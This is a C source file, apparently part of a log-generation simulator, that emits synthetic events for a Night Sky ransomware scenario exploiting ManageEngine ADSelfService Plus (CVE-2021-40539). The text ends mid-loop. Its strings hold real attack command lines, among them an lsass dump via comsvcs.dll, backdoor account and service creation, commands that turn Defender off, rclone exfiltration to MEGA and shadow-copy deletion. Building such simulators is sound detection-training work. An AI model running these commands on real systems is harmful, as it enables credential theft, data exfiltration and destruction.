/* scenario_nightsky.c - incident B, `nightsky2021`: Night Sky ransomware through the AD
 * self-service password-reset portal (Tokyo Computer Service, 2021).
 *
 * The chain, as logs show it:
 *   1. scanning of the reverse proxy (404s, then the portal's login page);
 *   2. CVE-2021-40539 (ManageEngine ADSelfService Plus REST API authentication bypass): POSTs to
 *      `/./RestAPI/LogonCustomization` (uploading a "certificate" that is a Java class),
 *      `/./RestAPI/ImportTrustedCertificate` and `/./RestAPI/Connection`, which runs keytool.exe
 *      with -providerclass: java.exe -> keytool.exe loads the attacker's code;
 *   3. a JSP web shell written by java.exe, then used (java.exe -> cmd.exe: whoami, nltest, net);
 *   4. lsass dumped with comsvcs.dll MiniDump: a domain admin's credentials;
 *   5. logon to the domain controller with them (4648 on the portal, NTLM 4624 on DC01);
 *   6. a backdoor service (7045/4697) and a backdoor domain admin account (4720/4728);
 *   7. Defender switched off (registry policy, Set-MpPreference);
 *   8. weeks of night-time staging reads on the file servers by the backdoor account (5145), an
 *      archive, and an upload with rclone;
 *   9. a GPO edited (5136 on its groupPolicyContainer) and a scheduled task plus a batch file
 * written under SYSVOL (5145, Sysmon 11);
 *  10. on the last day, early morning, every domain machine runs the batch: shadow copies deleted
 *      (vssadmin, wmic), files renamed to *.nightsky (Sysmon 11, 4663 on the file servers) and
 *      NightSkyReadMe.hta dropped in every folder. */
#include "sim_int.h"

#include "../core/alloc.h"

#include <string.h>

#define NAME "nightsky2021"
enum { STREAM = 0x4e534b };

#define ADSSP "C:\\ManageEngine\\ADSelfService Plus"
#define JAVA ADSSP "\\jre\\bin\\java.exe"
#define KEYTOOL ADSSP "\\jre\\bin\\keytool.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define WEBSHELL ADSSP "\\webapps\\adssp\\help\\admin-guide\\reports.jsp"
#define GPO_GUID "{6AC1786C-016F-11D2-945F-00C04FB984F9}"
#define GPO_DN "CN=" GPO_GUID ",CN=Policies,CN=System,DC=corp,DC=example"
#define SYSVOL_REL "corp.example\\Policies\\" GPO_GUID "\\Machine"
#define BATCH "\\\\corp.example\\SYSVOL\\" SYSVOL_REL "\\Scripts\\Startup\\winupdate.bat"
#define ENCRYPTOR "C:\\ProgramData\\nightsky.exe"
#define UA_SCAN                                                                                    \
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
#define UA_EXPLOIT "python-requests/2.26.0"
#define UA_SHELL "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:95.0) Gecko/20100101 Firefox/95.0"

struct nightsky {
    uint32_t scen;
    uint32_t svc, admin, backdoor;       /* users */
    uint32_t a_svc, a_admin, a_backdoor; /* accounts */
    uint32_t scan_ip, exploit_ip, exfil_ip;
    uint32_t d_recon, d_exploit, d_gpo, d_boom;
    uint32_t s_recon, s_exploit, s_webshell, s_exec, s_creds, s_dc, s_service, s_account, s_av;
    uint32_t s_stage, s_archive, s_exfil, s_gpo, s_task, s_vss, s_encrypt;
    uint32_t *stage_files; /* customer << 8 | file, the files staged, in order */
    uint32_t nstage, staged;
    int archived; /* the staged files were archived and uploaded */
    uint64_t wshell_pid_seed;
    uint32_t java_pid;
};

static const char *ip_of(struct sim *s, uint32_t ip) {
    char b[16];
    kz_sim_ip_text(ip, b);
    return kz_arena_strndup(&s->e->arena, b, strlen(b));
}

static int ns_plan(struct sim *s, void **state) {
    struct kz_sim_estate *e = s->e;
    struct nightsky *n = kz_calloc(1, sizeof *n);
    if (!n) return KZ_ENOMEM;
    *state = n;
    n->scen = s->nscen - 1;
    struct kz_sim_rng r;
    kz_sim_rng_seed(&r, s->o->seed, STREAM);
    n->scan_ip = 185u << 24 | kz_sim_rng_range(&r, 100, 220) << 16 |
                 kz_sim_rng_below(&r, 256) << 8 | kz_sim_rng_range(&r, 2, 250);
    n->exploit_ip = 91u << 24 | kz_sim_rng_range(&r, 190, 240) << 16 |
                    kz_sim_rng_below(&r, 256) << 8 | kz_sim_rng_range(&r, 2, 250);
    n->exfil_ip = 31u << 24 | 216u << 16 | 148u << 8 | kz_sim_rng_range(&r, 2, 250); /* MEGA */
    n->svc = e->wk.svc_adss;
    n->admin = e->wk.administrator;
    n->backdoor = kz_sim_estate_add_account(e, "adsync_svc", "AD Sync Service");
    if (n->backdoor == KZ_SIM_NONE) return KZ_ELIMIT;

    uint32_t D = s->days;
    n->d_recon = D > 10 ? D / 14 : 0;
    n->d_exploit = D > 2 ? n->d_recon + 1 : 0;
    n->d_gpo = D >= 2 ? D - 2 : 0;
    if (n->d_gpo < n->d_exploit) n->d_gpo = n->d_exploit;
    n->d_boom = D - 1;

    n->a_svc = sim_account_add(s, n->scen, n->svc);
    n->a_admin = sim_account_add(s, n->scen, n->admin);
    n->a_backdoor = sim_account_add(s, n->scen, n->backdoor);
    if (n->a_backdoor == KZ_SIM_NONE) return KZ_ELIMIT;
    const char *scan = ip_of(s, n->scan_ip), *expl = ip_of(s, n->exploit_ip);
    const char *portal_ip = e->hosts[e->wk.portal].ip_text, *portal = e->hosts[e->wk.portal].name;
    if (!scan || !expl) return KZ_ENOMEM;
    sim_account_source(s, n->a_svc, scan);
    sim_account_source(s, n->a_svc, expl);
    uint32_t acc[] = {n->a_admin, n->a_backdoor};
    for (int i = 0; i < 2; i++) {
        sim_account_source(s, acc[i], expl);
        sim_account_source(s, acc[i], portal_ip);
        sim_account_source(s, acc[i], portal);
    }

    n->s_recon = sim_step_add(s, NAME, "reconnaissance", "T1595.002", n->a_svc);
    n->s_exploit = sim_step_add(s, NAME, "initial-access", "T1190", n->a_svc);
    n->s_webshell = sim_step_add(s, NAME, "persistence", "T1505.003", n->a_svc);
    n->s_exec = sim_step_add(s, NAME, "execution", "T1059.003", n->a_svc);
    n->s_creds = sim_step_add(s, NAME, "credential-access", "T1003.001", n->a_svc);
    n->s_dc = sim_step_add(s, NAME, "lateral-movement", "T1021.002", n->a_admin);
    n->s_service = sim_step_add(s, NAME, "persistence", "T1543.003", n->a_admin);
    n->s_account = sim_step_add(s, NAME, "persistence", "T1136.002", n->a_admin);
    n->s_av = sim_step_add(s, NAME, "defense-evasion", "T1562.001", n->a_admin);
    n->s_stage = sim_step_add(s, NAME, "collection", "T1039", n->a_backdoor);
    n->s_archive = sim_step_add(s, NAME, "collection", "T1560.001", n->a_backdoor);
    n->s_exfil = sim_step_add(s, NAME, "exfiltration", "T1567.002", n->a_backdoor);
    n->s_gpo = sim_step_add(s, NAME, "defense-evasion", "T1484.001", n->a_backdoor);
    n->s_task = sim_step_add(s, NAME, "execution", "T1053.005", n->a_backdoor);
    n->s_vss = sim_step_add(s, NAME, "impact", "T1490", n->a_backdoor);
    n->s_encrypt = sim_step_add(s, NAME, "impact", "T1486", n->a_backdoor);
    if (!n->s_encrypt) return KZ_ELIMIT;

    /* The files published after the attack: 3,242 in the report, distinct, from all customers. */
    uint64_t avail = (uint64_t)e->ncustomers * KZ_SIM_FILES_PER_CUSTOMER;
    n->nstage = avail < 3242 ? (uint32_t)avail : 3242;
    n->stage_files = kz_calloc(n->nstage, sizeof *n->stage_files);
    if (!n->stage_files) return KZ_ENOMEM;
    uint8_t *seen = kz_calloc(avail / 8 + 1, 1);
    if (!seen) return KZ_ENOMEM;
    for (uint32_t i = 0; i < n->nstage;) {
        uint32_t x = (uint32_t)(kz_sim_rng_next(&r) % avail);
        if (seen[x >> 3] >> (x & 7) & 1) continue;
        seen[x >> 3] |= (uint8_t)(1u << (x & 7));
        n->stage_files[i++] = (x / KZ_SIM_FILES_PER_CUSTOMER) << 8 | x % KZ_SIM_FILES_PER_CUSTOMER;
    }
    kz_free(seen);
    s->scen[n->scen].files_exfiltrated = n->nstage;
    return 0;
}

static void ns_free(void *state) {
    struct nightsky *n = state;
    if (!n) return;
    kz_free(n->stage_files);
    kz_free(n);
}

/* ---- day by day ---- */

static void recon(struct sim_gen *g, struct nightsky *n, kz_time t) {
    static const char *const probes[] = {"GET / HTTP/1.1",
                                         "GET /robots.txt HTTP/1.1",
                                         "GET /.env HTTP/1.1",
                                         "GET /wp-login.php HTTP/1.1",
                                         "GET /owa/auth/logon.aspx HTTP/1.1",
                                         "GET /remote/login HTTP/1.1",
                                         "GET /showLogin.cc HTTP/1.1",
                                         "GET /ServletAPI/accounts/login HTTP/1.1",
                                         "GET /RestAPI/LogonCustomization HTTP/1.1",
                                         "GET /help/admin-guide/index.html HTTP/1.1",
                                         "GET /js/ADSelfService.js HTTP/1.1",
                                         "GET /html/adsspInfo.html HTTP/1.1"};
    g->step = n->s_recon;
    for (int round = 0; round < 3; round++)
        for (size_t i = 0; i < sizeof probes / sizeof *probes; i++) {
            t += kz_sim_rng_range(&g->rng, 1, 9) * SEC / 2;
            int found = i >= 6 && i != 8;
            sim_web(g, t, n->scan_ip, probes[i],
                    i == 8  ? 401
                    : found ? 200
                            : 404,
                    found ? 10934 : 162, UA_SCAN, NULL);
        }
}

static void exploit(struct sim_gen *g, struct nightsky *n, kz_time t) {
    struct sim_day *d = g->d;
    const struct kz_sim_estate *e = d->e;
    uint32_t portal = e->wk.portal, svc = n->svc;
    g->step = n->s_exploit;
    sim_web(g, t, n->exploit_ip, "GET /showLogin.cc HTTP/1.1", 200, 10934, UA_EXPLOIT, NULL);
    sim_web(g, t + 3 * SEC, n->exploit_ip, "POST /./RestAPI/LogonCustomization HTTP/1.1", 200, 81,
            UA_EXPLOIT, NULL);
    sim_web(g, t + 5 * SEC, n->exploit_ip, "POST /./RestAPI/ImportTrustedCertificate HTTP/1.1", 200,
            92, UA_EXPLOIT, NULL);
    sim_web(g, t + 8 * SEC, n->exploit_ip,
            "POST /./RestAPI/Connection?methodToCall=openSSLTool&action=generateCSR HTTP/1.1", 200,
            124, UA_EXPLOIT, NULL);
    /* The uploaded "certificate" lands in the bin folder; keytool loads it as a provider class. */
    n->java_pid = 3000 + 4 * (portal % 100);
    sim_file_create(g, portal, t + 3 * SEC + SEC / 2, svc, n->java_pid, JAVA,
                    ADSSP "\\bin\\service.cer");
    sim_proc(g, portal, t + 9 * SEC, svc, 0x7a3e1, KEYTOOL,
             "\"" KEYTOOL "\" -J-Duser.language=en -genkey -alias ssl -keyalg RSA -keysize 1024 "
             "-dname \"CN=localhost, OU=ADSSP, O=corp, L=Tokyo, S=Tokyo, C=JP\" -keypass "
             "adventnet -keystore ..\\jre\\bin\\SelfService.keystore -storepass adventnet "
             "-providerclass Si -providerpath \"" ADSSP "\\bin\"",
             n->java_pid, JAVA,
             "\"" JAVA "\" -Dcatalina.home=\"" ADSSP "\" -server -Xmx512m "
             "org.apache.catalina.startup.Bootstrap start",
             2);
    /* The web shell. */
    g->step = n->s_webshell;
    sim_file_create(g, portal, t + 12 * SEC, svc, n->java_pid, JAVA, WEBSHELL);
    sim_web(g, t + 40 * SEC, n->exploit_ip, "GET /help/admin-guide/reports.jsp HTTP/1.1", 200, 512,
            UA_SHELL, NULL);
}

static uint32_t shell_cmd(struct sim_gen *g, struct nightsky *n, kz_time t, const char *cmd) {
    const struct kz_sim_estate *e = g->d->e;
    uint32_t portal = e->wk.portal;
    sim_web(g, t - SEC, n->exploit_ip, "POST /help/admin-guide/reports.jsp HTTP/1.1", 200,
            kz_sim_rng_range(&g->rng, 200, 4000), UA_SHELL, NULL);
    const char *line = sim_strf(g->d, "cmd.exe /c %s", cmd);
    uint32_t c = sim_proc(g, portal, t, n->svc, 0x7a3e1, CMD, line, n->java_pid, JAVA,
                          "\"" JAVA "\" -Dcatalina.home=\"" ADSSP
                          "\" -server -Xmx512m org.apache.catalina.startup.Bootstrap start",
                          2);
    return c;
}

static void foothold(struct sim_gen *g, struct nightsky *n, kz_time t) {
    struct sim_day *d = g->d;
    const struct kz_sim_estate *e = d->e;
    uint32_t portal = e->wk.portal, dc = e->wk.dc[0];
    g->step = n->s_exec;
    static const char *const recon_cmds[] = {
        "whoami /all", "ipconfig /all", "nltest /dclist:corp.example",
        "net group \"Domain Admins\" /domain", "tasklist /v | findstr lsass"};
    for (int i = 0; i < 5; i++) {
        t += kz_sim_rng_range(&g->rng, 20, 90) * SEC;
        const char *c = recon_cmds[i];
        uint32_t cmd = shell_cmd(g, n, t, c);
        const char *sp = strchr(c, ' ');
        sim_proc(g, portal, t + SEC / 2, n->svc, 0x7a3e1,
                 sim_strf(d, "C:\\Windows\\System32\\%.*s.exe", (int)(sp - c), c), c, cmd, CMD,
                 sim_strf(d, "cmd.exe /c %s", c), 2);
    }
    /* lsass dumped with comsvcs.dll. */
    g->step = n->s_creds;
    t += 3 * MIN;
    uint32_t lsass = 600 + 4 * (portal % 40);
    const char *dump = sim_strf(d,
                                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %u "
                                "C:\\ProgramData\\lsass.dmp full",
                                lsass);
    uint32_t cmd = shell_cmd(g, n, t, dump);
    uint32_t rd =
        sim_proc(g, portal, t + SEC, n->svc, 0x7a3e1, "C:\\Windows\\System32\\rundll32.exe", dump,
                 cmd, CMD, sim_strf(d, "cmd.exe /c %s", dump), 2);
    struct sim_ev *x = sim_ev_new(g, K_S10, portal, t + 2 * SEC);
    x->u = n->svc, x->pid = rd, x->s1 = "C:\\Windows\\System32\\rundll32.exe", x->ppid = lsass;
    x->s2 = "C:\\Windows\\system32\\lsass.exe", x->n = 0x1fffff;
    sim_file_create(g, portal, t + 4 * SEC, n->svc, rd, "C:\\Windows\\System32\\rundll32.exe",
                    "C:\\ProgramData\\lsass.dmp");
    shell_cmd(g, n, t + 60 * SEC, "del C:\\ProgramData\\lsass.dmp");

    /* The domain admin's credentials, used from the portal against DC01. */
    g->step = n->s_dc;
    t += 10 * MIN;
    uint32_t c2 = shell_cmd(g, n, t - 2 * SEC,
                            "wmic /node:DC01 /user:CORP\\Administrator process call create "
                            "\"cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt\"");
    struct sim_ev *e48 = sim_ev_new(g, K_4648, portal, t - SEC);
    e48->u = n->svc, e48->lid = 0x7a3e1, e48->u2 = n->admin, e48->s1 = "DC01.corp.example";
    e48->s2 = "C:\\Windows\\System32\\wbem\\WMIC.exe", e48->pid = c2;
    uint64_t lid =
        sim_logon(g, dc, t, n->admin, 3, e->hosts[portal].ip, "PWRESET01", SL_NTLM | SL_PRIV);
    uint32_t wmi = 2400 + 4 * (dc % 50);
    sim_proc(g, dc, t + 2 * SEC, n->admin, lid, CMD, "cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt",
             wmi, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
             "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", 2);

    /* Backdoor service on the DC. */
    g->step = n->s_service;
    t += 8 * MIN;
    const char *svcbin = "C:\\Windows\\Temp\\svchosts.exe";
    sim_file_create(g, dc, t - MIN, n->admin, 4, "System", svcbin);
    const char *sc =
        "sc.exe \\\\DC01 create WinSysMon binPath= \"C:\\Windows\\Temp\\svchosts.exe\" "
        "start= auto DisplayName= \"Windows System Monitor\"";
    uint32_t c3 = shell_cmd(g, n, t - 2 * SEC, sc);
    sim_proc(g, portal, t - SEC, n->svc, 0x7a3e1, "C:\\Windows\\System32\\sc.exe", sc, c3, CMD,
             sim_strf(d, "cmd.exe /c %s", sc), 2);
    struct sim_ev *s7 = sim_ev_new(g, K_7045, dc, t);
    s7->u = n->admin, s7->s1 = "Windows System Monitor", s7->s2 = svcbin, s7->n = 2;
    struct sim_ev *s4 = sim_ev_new(g, K_4697, dc, t);
    s4->u = n->admin, s4->lid = lid, s4->s1 = "WinSysMon", s4->s2 = svcbin, s4->n = 2;
    sim_proc(g, dc, t + 5 * SEC, KZ_SIM_NONE, 0x3e7, svcbin, svcbin, 700,
             "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", 3);

    /* Backdoor domain admin account. */
    g->step = n->s_account;
    t += 6 * MIN;
    const char *add = "net user adsync_svc Sync#2021!x /add /domain";
    const char *grp = "net group \"Domain Admins\" adsync_svc /add /domain";
    uint32_t c4 = shell_cmd(g, n, t, add);
    sim_proc(g, portal, t + SEC / 2, n->svc, 0x7a3e1, "C:\\Windows\\System32\\net.exe", add, c4,
             CMD, sim_strf(d, "cmd.exe /c %s", add), 2);
    struct sim_ev *a = sim_ev_new(g, K_4720, dc, t + SEC);
    a->u = n->admin, a->lid = lid, a->u2 = n->backdoor;
    uint32_t c5 = shell_cmd(g, n, t + 30 * SEC, grp);
    sim_proc(g, portal, t + 30 * SEC + SEC / 2, n->svc, 0x7a3e1, "C:\\Windows\\System32\\net.exe",
             grp, c5, CMD, sim_strf(d, "cmd.exe /c %s", grp), 2);
    struct sim_ev *m = sim_ev_new(g, K_4728, dc, t + 31 * SEC);
    m->u = n->admin, m->lid = lid, m->u2 = n->backdoor, m->s1 = "Domain Admins";

    /* Defender off, on the portal and the DC. */
    g->step = n->s_av;
    t += 5 * MIN;
    const char *reg = "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v "
                      "DisableAntiSpyware /t REG_DWORD /d 1 /f";
    const char *ps = "powershell.exe -ep bypass -c Set-MpPreference -DisableRealtimeMonitoring "
                     "$true";
    uint32_t hosts[2] = {portal, dc};
    for (int i = 0; i < 2; i++) {
        uint32_t h = hosts[i], u = i ? n->admin : n->svc;
        uint64_t l = i ? lid : 0x7a3e1;
        kz_time th = t + (kz_time)i * 2 * MIN;
        uint32_t parent = i ? 2400 + 4 * (dc % 50) : shell_cmd(g, n, th - SEC, reg);
        const char *pimg = i ? "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe" : CMD;
        uint32_t rp = sim_proc(g, h, th, u, l, "C:\\Windows\\System32\\reg.exe", reg, parent, pimg,
                               i ? "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured "
                                   "-Embedding"
                                 : sim_strf(d, "cmd.exe /c %s", reg),
                               2);
        struct sim_ev *r13 = sim_ev_new(g, K_S13, h, th + SEC / 10);
        r13->u = u, r13->pid = rp, r13->s1 = "C:\\Windows\\System32\\reg.exe";
        r13->s2 = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware";
        r13->s3 = "DWORD (0x00000001)";
        uint32_t pp = sim_proc(g, h, th + 20 * SEC, u, l,
                               "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", ps,
                               parent, pimg, "cmd.exe", 2);
        struct sim_ev *p = sim_ev_new(g, K_4104W, h, th + 21 * SEC);
        p->u = u, p->pid = pp, p->s1 = "Set-MpPreference -DisableRealtimeMonitoring $true";
    }
}

/* One night of staging reads by the backdoor account from the portal host. */
static void stage_night(struct sim_gen *g, struct nightsky *n, kz_time t, uint32_t count) {
    struct sim_day *d = g->d;
    const struct kz_sim_estate *e = d->e;
    uint32_t src = e->hosts[e->wk.portal].ip;
    g->step = n->s_stage;
    uint32_t end = n->staged + count;
    if (end > n->nstage) end = n->nstage;
    uint64_t lids[64] = {0};
    for (; n->staged < end; n->staged++) {
        uint32_t c = n->stage_files[n->staged] >> 8, k = n->stage_files[n->staged] & 255;
        uint32_t fs = e->customers[c].fs, fi = fs - e->wk.fs_first;
        if (fi < 64 && !lids[fi]) {
            lids[fi] = sim_logon(g, fs, t, n->backdoor, 3, src, "PWRESET01", SL_NTLM | SL_PRIV);
            sim_share_connect(g, fs, t + SEC, n->backdoor, lids[fi], src, SHARE_PROJECTS,
                              SHARE_PROJECTS_LOCAL);
        }
        t += kz_sim_rng_range(&g->rng, 1, 4) * SEC / 2;
        sim_share_file(g, fs, t, n->backdoor, fi < 64 ? lids[fi] : 0, src, SHARE_PROJECTS,
                       SHARE_PROJECTS_LOCAL, sim_customer_path(d, c, k), 1);
        sim_account_customer(d->s, n->a_backdoor, c);
    }
    for (uint32_t fi = 0; fi < e->wk.nfs && fi < 64; fi++)
        if (lids[fi]) sim_logoff(g, e->wk.fs_first + fi, t + MIN, n->backdoor, lids[fi], 3);
}

static void archive_and_exfil(struct sim_gen *g, struct nightsky *n, kz_time t) {
    struct sim_day *d = g->d;
    const struct kz_sim_estate *e = d->e;
    uint32_t portal = e->wk.portal;
    g->step = n->s_archive;
    const char *z = "C:\\ProgramData\\7z.exe a -t7z -mhe=on -pNightSky2021 -v500m "
                    "C:\\ProgramData\\Microsoft\\Crypto\\bk.7z C:\\ProgramData\\st\\*";
    uint32_t c = shell_cmd(g, n, t, z);
    uint32_t zp = sim_proc(g, portal, t + SEC, n->svc, 0x7a3e1, "C:\\ProgramData\\7z.exe", z, c,
                           CMD, sim_strf(d, "cmd.exe /c %s", z), 2);
    uint32_t vols = n->nstage / 600 + 1;
    for (uint32_t v = 0; v < vols && v < 20; v++)
        sim_file_create(g, portal, t + (kz_time)(v + 1) * 40 * SEC, n->svc, zp,
                        "C:\\ProgramData\\7z.exe",
                        sim_strf(d, "C:\\ProgramData\\Microsoft\\Crypto\\bk.7z.%03u", v + 1));
    g->step = n->s_exfil;
    t += 20 * MIN;
    const char *rc = "C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\Microsoft\\Crypto mega:bk "
                     "--config C:\\ProgramData\\rc.conf -q --ignore-existing --transfers 4";
    uint32_t c2 = shell_cmd(g, n, t, rc);
    uint32_t rp = sim_proc(g, portal, t + SEC, n->svc, 0x7a3e1, "C:\\ProgramData\\rclone.exe", rc,
                           c2, CMD, sim_strf(d, "cmd.exe /c %s", rc), 2);
    for (int i = 0; i < 4; i++) {
        struct sim_ev *x = sim_ev_new(g, K_S3, portal, t + 3 * SEC + (kz_time)i * SEC);
        x->u = n->svc, x->pid = rp, x->s1 = "C:\\ProgramData\\rclone.exe";
        x->src = n->exfil_ip + (uint32_t)i, x->port = 443, x->s2 = "g.api.mega.co.nz";
    }
}

static void gpo_edit(struct sim_gen *g, struct nightsky *n, kz_time t) {
    struct sim_day *d = g->d;
    const struct kz_sim_estate *e = d->e;
    uint32_t dc = e->wk.dc[0], portal = e->wk.portal;
    g->step = n->s_gpo;
    uint64_t lid =
        sim_logon(g, dc, t, n->backdoor, 3, e->hosts[portal].ip, "PWRESET01", SL_NTLM | SL_PRIV);
    uint32_t corr = (uint32_t)(kz_sim_rng_next(&g->rng) & 0xffffff);
    struct {
        const char *attr, *val;
        int op;
    } mods[] = {{"gPCMachineExtensionNames",
                 "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
                 "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]",
                 1},
                {"gPCMachineExtensionNames",
                 "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
                 "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
                 "[{42B5FAAE-6536-11D2-AE5A-0000F87571E3}{40B6664F-4972-11D1-A7CA-0000F87571E3}]",
                 0},
                {"versionNumber", "131074", 1},
                {"versionNumber", "196611", 0}};
    for (int i = 0; i < 4; i++) {
        struct sim_ev *x = sim_ev_new(g, K_5136, dc, t + 30 * SEC);
        x->u = n->backdoor, x->lid = lid, x->s1 = GPO_DN, x->s2 = mods[i].attr;
        x->s3 = mods[i].val, x->ltype = (uint8_t)mods[i].op, x->pid = corr;
    }
    const char *files[] = {SYSVOL_REL "\\Preferences\\ScheduledTasks\\ScheduledTasks.xml",
                           SYSVOL_REL "\\Scripts\\Startup\\winupdate.bat",
                           SYSVOL_REL "\\Scripts\\scripts.ini"};
    for (int i = 0; i < 3; i++) {
        kz_time tf = t + MIN + (kz_time)i * 10 * SEC;
        sim_share_file(g, dc, tf, n->backdoor, lid, e->hosts[portal].ip, "\\\\*\\SYSVOL",
                       "\\??\\C:\\Windows\\SYSVOL\\sysvol", files[i], 2);
        sim_file_create(
            g, dc, tf, n->backdoor, 4, "System",
            sim_strf(d, "C:\\Windows\\SYSVOL\\domain\\%s", files[i] + sizeof "corp.example"));
    }
    sim_logoff(g, dc, t + 5 * MIN, n->backdoor, lid, 3);
}

/* The last morning: every domain machine runs the batch. */
static void detonate(struct sim_gen *g, struct nightsky *n, kz_time t0) {
    struct sim_day *d = g->d;
    const struct kz_sim_estate *e = d->e;
    static const char *const doc_names[] = {"見積書.xlsx",  "report.docx", "budget.xlsx",
                                            "minutes.docx", "drawing.pdf", "photo.jpg"};
    for (uint32_t h = 0; h < e->nhosts; h++) {
        const struct kz_sim_host *hh = &e->hosts[h];
        if (!hh->windows) continue;
        kz_time t = t0 + (kz_time)(h % 120) * 10 * SEC + kz_sim_rng_below(&g->rng, 5000) * 10000;
        g->step = n->s_task;
        struct sim_ev *task = sim_ev_new(g, K_4698, h, t);
        task->s1 = "\\WinUpdate";
        task->s2 =
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.3\" "
            "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Principals>"
            "<Principal id=\"Author\"><UserId>NT AUTHORITY\\System</UserId><RunLevel>"
            "HighestAvailable</RunLevel></Principal></Principals><Actions Context=\"Author\">"
            "<Exec><Command>cmd.exe</Command><Arguments>/c " BATCH "</Arguments></Exec>"
            "</Actions></Task>";
        uint32_t tk =
            sim_proc(g, h, t + 20 * SEC, KZ_SIM_NONE, 0x3e7, "C:\\Windows\\System32\\taskhostw.exe",
                     "taskhostw.exe", 1200, "C:\\Windows\\System32\\svchost.exe",
                     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", 3);
        uint32_t bat = sim_proc(g, h, t + 21 * SEC, KZ_SIM_NONE, 0x3e7, CMD, "cmd.exe /c " BATCH,
                                tk, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", 3);
        sim_proc(g, h, t + 22 * SEC, KZ_SIM_NONE, 0x3e7, CMD,
                 "cmd.exe /c copy /y \\\\corp.example\\SYSVOL\\" SYSVOL_REL
                 "\\Scripts\\Startup\\nightsky.exe " ENCRYPTOR,
                 bat, CMD, "cmd.exe /c " BATCH, 3);
        sim_file_create(g, h, t + 23 * SEC, KZ_SIM_NONE, bat, CMD, ENCRYPTOR);
        g->step = n->s_vss;
        uint32_t vs =
            sim_proc(g, h, t + 25 * SEC, KZ_SIM_NONE, 0x3e7, "C:\\Windows\\System32\\vssadmin.exe",
                     "vssadmin delete shadows /all /quiet", bat, CMD, "cmd.exe /c " BATCH, 3);
        (void)vs;
        sim_proc(g, h, t + 27 * SEC, KZ_SIM_NONE, 0x3e7, "C:\\Windows\\System32\\wbem\\WMIC.exe",
                 "wmic shadowcopy delete", bat, CMD, "cmd.exe /c " BATCH, 3);
        g->step = n->s_encrypt;
        uint32_t enc =
            sim_proc(g, h, t + 30 * SEC, KZ_SIM_NONE, 0x3e7, ENCRYPTOR,
                     ENCRYPTOR " -p \"C:\\\\\" -nolog", bat, CMD, "cmd.exe /c " BATCH, 3);
        kz_time tf = t + 31 * SEC;
        if (hh->role == KZ_SIM_FILESERVER) {
            uint32_t fi = h - e->wk.fs_first;
            for (uint32_t c = fi; c < e->ncustomers; c += e->wk.nfs) {
                for (uint32_t k = 0; k < 3; k++) {
                    const char *rel = sim_customer_path(d, c, k);
                    tf += 30 * 10000 + kz_sim_rng_below(&g->rng, 300) * 10000;
                    const char *full = sim_strf(d, "D:\\Shares\\projects\\%s", rel);
                    struct sim_ev *x = sim_ev_new(g, K_4663, h, tf);
                    x->u = KZ_SIM_NONE, x->lid = 0x3e7, x->s1 = full, x->s2 = ENCRYPTOR;
                    x->pid = enc, x->n = 2;
                    sim_file_create(g, h, tf, KZ_SIM_NONE, enc, ENCRYPTOR,
                                    sim_strf(d, "%s.nightsky", full));
                    struct sim_ev *y = sim_ev_new(g, K_4663, h, tf + 10000);
                    y->u = KZ_SIM_NONE, y->lid = 0x3e7, y->s1 = full, y->s2 = ENCRYPTOR;
                    y->pid = enc, y->n = 0x10000;
                }
                const char *folder = e->customers[c].folder;
                sim_file_create(
                    g, h, tf + 20000, KZ_SIM_NONE, enc, ENCRYPTOR,
                    sim_strf(d, "D:\\Shares\\projects\\%s\\NightSkyReadMe.hta", folder));
            }
        } else {
            const char *who = hh->owner != KZ_SIM_NONE ? e->users[hh->owner].sam : "Public";
            const char *dirs[] = {"Documents", "Desktop", "Downloads"};
            for (int dd = 0; dd < 3; dd++) {
                for (int k = 0; k < 4; k++) {
                    tf += 40 * 10000 + kz_sim_rng_below(&g->rng, 500) * 10000;
                    sim_file_create(g, h, tf, KZ_SIM_NONE, enc, ENCRYPTOR,
                                    sim_strf(d, "C:\\Users\\%s\\%s\\%s.nightsky", who, dirs[dd],
                                             doc_names[(k + dd + h) % 6]));
                }
                sim_file_create(
                    g, h, tf + 20000, KZ_SIM_NONE, enc, ENCRYPTOR,
                    sim_strf(d, "C:\\Users\\%s\\%s\\NightSkyReadMe.hta", who, dirs[dd]));
            }
        }
    }
    /* From the portal host, where the attackers hold the backdoor Domain Admin account, the
     * encryptor also walks the project shares over SMB, as ransomware does with every share it
     * can reach: the file servers see renames to *.nightsky and the note written (5145), besides
     * their own local encryption above. A few customer folders per file server. */
    g->step = n->s_encrypt;
    uint32_t portal = e->wk.portal, src = e->hosts[portal].ip;
    kz_time tn = t0 + 40 * MIN;
    for (uint32_t fi = 0; fi < e->wk.nfs; fi++) {
        uint32_t fs = e->wk.fs_first + fi, folders = 0;
        uint64_t lid = sim_logon(g, fs, tn, n->backdoor, 3, src, "PWRESET01", SL_NTLM | SL_PRIV);
        sim_share_connect(g, fs, tn + SEC, n->backdoor, lid, src, SHARE_PROJECTS,
                          SHARE_PROJECTS_LOCAL);
        tn += 2 * SEC;
        for (uint32_t c = 0; c < e->ncustomers && folders < 4; c++) {
            if (e->customers[c].fs != fs) continue;
            folders++;
            for (uint32_t k = 3; k < 5; k++) {
